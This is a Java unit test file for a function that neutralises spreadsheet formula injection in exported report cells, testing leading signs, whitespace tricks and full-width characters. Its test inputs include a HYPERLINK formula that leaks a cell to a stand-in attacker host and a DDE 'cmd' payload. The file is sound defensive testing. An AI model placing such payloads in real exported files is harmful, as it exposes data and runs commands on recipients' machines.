package io.orderhub.report.file;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetCellsTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)",
            "\tmeans a formula in some importers", "\r=1+1", "=", "+", "-", "@"})
    void textStartingLikeAFormulaGetsAQuote(String text) {
        assertThat(SpreadsheetCells.neutralise(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(strings = {" =1+1", "   +1", "\n-1", "\n\n@x", " \t=cmd|' /C calc'!A0", "\u00A0=1+1", "\u3000=1+1",
            "\u0000=1"})
    void leadingWhitespaceBeforeAFormulaSignIsNoHidingPlace(String text) {
        assertThat(SpreadsheetCells.neutralise(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"\uFF1D1+1", "\uFF0B86 138 0000 0000", "\uFF0D5", "\uFF20SUM(A1)", " \uFF1DA1"})
    void fullWidthFormulaSignsAreNeutralisedToo(String text) {
        assertThat(SpreadsheetCells.neutralise(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "   ", "旗舰店 A", "a=b", "1-2", "user@example.com", "'=already quoted", "SKU-001",
            "(=1)", "%=1"})
    void ordinaryTextIsLeftAlone(String text) {
        assertThat(SpreadsheetCells.neutralise(text)).isEqualTo(text);
    }

    @Test
    void neutralisingTwiceChangesNothingMore() {
        String once = SpreadsheetCells.neutralise("=1+1");

        assertThat(SpreadsheetCells.neutralise(once)).isEqualTo(once).isEqualTo("'=1+1");
    }

    @Test
    void noTextStaysNoText() {
        assertThat(SpreadsheetCells.neutralise(null)).isNull();
    }
}
